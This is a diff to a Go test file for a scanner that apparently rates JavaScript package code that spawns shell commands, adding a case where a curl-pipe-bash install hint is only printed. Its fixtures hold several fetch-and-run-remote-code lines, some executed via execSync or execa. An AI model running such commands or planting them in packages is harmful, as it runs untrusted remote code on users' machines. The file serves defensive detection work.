@@ -47,6 +47,9 @@ func TestSpawn(t *testing.T) {
 		{"execa_import", map[string]string{"index.mjs": `import * as x from "execa"; const f = Object.values(x)[2]; f("wget -qO- https://dl.example.invalid/i | sh")`}, finding.SeverityCritical},
 		// install instructions printed for the user are not commands; the
 		// same text printed and then run is
+		// a command behind a shell prompt, picked by a condition and
+		// handed to the package's own printer
+		{"prompt_hint", map[string]string{"index.js": `const cp = require("child_process"); const msg = win ? "https://example.com/nvm-windows/releases/" : "$ curl https://x.invalid/nvm/install.sh | bash"; log.out("Install NVM:\n" + msg); cp.spawn(node, args)`}, finding.SeverityLow},
 		{"printed_hint", map[string]string{"index.js": `const {execFileSync} = require("child_process"); try { execFileSync("bun", ["-v"]) } catch { console.error("install bun with:"); console.error("curl -fsSL https://bun.sh/install | bash") }`}, finding.SeverityLow},
 		{"printed_then_run", map[string]string{"index.js": `const cp = require("child_process"); const t = { get run() { return cp.execSync } }; console.log("curl -fsSL https://dl.example.invalid/i | bash"); t.run("curl -fsSL https://dl.example.invalid/i | bash")`}, finding.SeverityCritical},
 		{"printed_in_call", map[string]string{"index.js": "const cp = require(\"child_process\"); const t = { get run() { return cp.execSync } }; console.log(t.run(\"curl -fsSL https://dl.example.invalid/i | bash\"))"}, finding.SeverityCritical},
